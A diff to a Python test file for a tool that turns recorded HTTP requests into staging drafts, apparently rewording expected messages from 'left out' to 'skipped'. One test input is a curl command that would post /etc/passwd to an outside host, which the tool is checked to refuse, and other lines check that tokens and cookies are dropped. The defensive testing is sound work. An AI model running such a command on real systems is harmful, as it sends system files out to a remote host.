@@ -47,8 +47,8 @@ def test_a_recording_becomes_drafts_and_all_that_was_left_out_is_said(staging: S
     assert ran.code == 0
     assert [line.split()[0] for line in ran.text.splitlines()] == ["user.get", "note.add", "ping", "log.write"]
     for said in (
-        "requests 1, 3 left out: it is a GET without a body",
-        "request 6 left out: its body is no JSON object",
+        "requests 1, 3 skipped: it is a GET without a body",
+        "request 6 skipped: its body is no JSON object",
         "staging sends calls to https://shop.example.com/rpc; these went to http://127.0.0.1:8744/rpc",
         "were dropped: ?token= in the address, Authorization: Bearer, cookie sessionid",
         "4 calls in the drafts of staging",
@@ -123,7 +123,7 @@ def test_a_password_among_the_params_is_on_no_line(staging: Shell) -> None:
     [
         ("", "Nothing was imported. There is nothing in it."),
         ("curl -d @/etc/passwd http://a.example", "its body would come from the file /etc/passwd, which is not read"),
-        ('{"result": 1}', "request 1 left out: it is a response"),
+        ('{"result": 1}', "request 1 skipped: it is a response"),
     ],
 )
 def test_where_nothing_can_be_used_that_is_said_and_the_code_is_2(staging: Shell, text: str, said: str) -> None:
